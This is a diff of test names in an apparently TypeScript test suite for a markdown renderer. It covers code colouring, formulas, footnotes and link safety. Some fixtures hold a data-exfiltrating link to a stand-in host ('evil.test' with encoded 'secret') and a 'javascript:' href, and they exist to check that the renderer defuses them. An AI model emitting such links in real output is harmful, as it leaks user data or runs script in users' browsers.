@@ -31,7 +31,7 @@ function press(root: ParentNode, selector: string): HTMLElement {
   return element;
 }
 
-test('code is coloured in a worker once it is whole, and stays the same text', async () => {
+test('finished code is coloured in a worker, and its text stays the same', async () => {
   const code = `const answer: number = 42; // why\n${'let line = "a \\u{1F600} 😀";\n'.repeat(400)}`;
   const root = await show(`\`\`\`ts\n${code}\`\`\`\n\n- in a list\n\n  \`\`\`py\n  def f(): pass\n  \`\`\`\n`);
   const blocks = [...root.querySelectorAll('code')];
@@ -42,14 +42,14 @@ test('code is coloured in a worker once it is whole, and stays the same text', a
   expect(blocks[1]?.querySelector('.keyword')?.textContent).toBe('def');
 });
 
-test('code of an unknown language, and code that is very long, stays plain; the long one says so', async () => {
+test('code of an unknown language and very long code are not coloured; the long one says so', async () => {
   const root = await show(`\`\`\`klingon\nqapla'\n\`\`\`\n\n\`\`\`js\n${'let a = 1;\n'.repeat(20_000)}\`\`\`\n`);
   expect(root.querySelectorAll('.keyword').length).toBe(0);
   expect([...root.querySelectorAll('.language')].map((label) => label.textContent)).toEqual(['klingon', 'JavaScript']);
   expect(root.querySelector('.bar .limit')?.textContent).toBe('too long to colour');
 });
 
-test('code is wrapped with a button, and handed over as a file with a fitting name', async () => {
+test('a button wraps code, and another saves it as a file with a fitting name', async () => {
   const root = await show('```python\n# tools/tide_table.py\nprint(1)\n```\n');
   const wrap = press(root, '.wrap');
   expect(wrap.getAttribute('aria-pressed')).toBe('true');
@@ -70,7 +70,7 @@ test('code is wrapped with a button, and handed over as a file with a fitting na
   expect(names).toEqual(['tide_table.py']);
 });
 
-test('formulas are drawn in their four notations; amounts of money are none', async () => {
+test('formulas are rendered in their four notations; amounts of money are not formulas', async () => {
   const root = await show(
     'So $e^{i\\pi} = -1$ and \\(a^2\\).\n\n$$\nx = 1\n- y\n$$\n\n\\[ z \\]\n\nIt costs $5, or $10 for two; US$3 and $4/$5.',
   );
@@ -88,7 +88,7 @@ test('formulas are drawn in their four notations; amounts of money are none', as
   expect(faces.some(({ status }) => status === 'error')).toBe(false);
 });
 
-test('styles of formulas are set by script, so that a strict policy has nothing to refuse', async () => {
+test('styles of formulas are set by script, which a strict policy allows', async () => {
   const written: string[] = [];
   const { setAttribute } = Element.prototype;
   Element.prototype.setAttribute = function (this: Element, name: string, value: string) {
@@ -101,13 +101,13 @@ test('styles of formulas are set by script, so that a strict policy has nothing 
   expect(written).toEqual([]);
 });
 
-test('a formula that KaTeX does not know stays the text that it is', async () => {
+test('a formula that KaTeX cannot parse stays text', async () => {
   const root = await show('Here: $\\nosuchmacro{x}$ and $\\href{javascript:alert(1)}{x}$.');
   expect(root.textContent).toContain('$\\nosuchmacro{x}$');
   expect(root.querySelectorAll('a').length).toBe(0);
 });
 
-test('a footnote and its mark lead to each other; a mark without a note is text', async () => {
+test('a footnote and its reference link to each other; a reference without a note is text', async () => {
   const root = await show('One[^a] and two[^b] and none[^c].\n\n[^b]: Second.\n\n[^a]: First,\n    and more.\n');
   const marks = [...root.querySelectorAll<HTMLElement>('.note-mark')];
   expect(marks.map((mark) => mark.textContent)).toEqual(['1', '2']);
@@ -118,7 +118,7 @@ test('a footnote and its mark lead to each other; a mark without a note is text'
   expect(root.activeElement).toBe(marks[0]);
 });
 
-test('a link that carries much has no address of its own, and asks with the whole of it', async () => {
+test('a link that can exfiltrate text has no href, and a dialog shows the whole URL', async () => {
   const href = `https://evil.test/?d=${'c2VjcmV0'.repeat(12)}`;
   const root = await show(`[click here](${href}) or [there](https://good.test/page)`);
   const [asking, plain] = root.querySelectorAll('a');
@@ -138,7 +138,7 @@ test('a link that carries much has no address of its own, and asks with the whol
   await vi.waitUntil(() => root.querySelector('alcove-link-dialog') === null);
 });
 
-test('formatted text for other programs has what a document has, and none of our controls', async () => {
+test('formatted text for other programs has the document’s elements and none of our controls', async () => {
   const root = await show(
     '# Title\n\nSome **bold**, $x^2$ and [a link](https://good.test/).\n\n- [x] done\n\n```js\nlet a;\n```\n\n| a |\n|---|\n| 1 |\n\nNote[^1]\n\n[^1]: Text',
   );
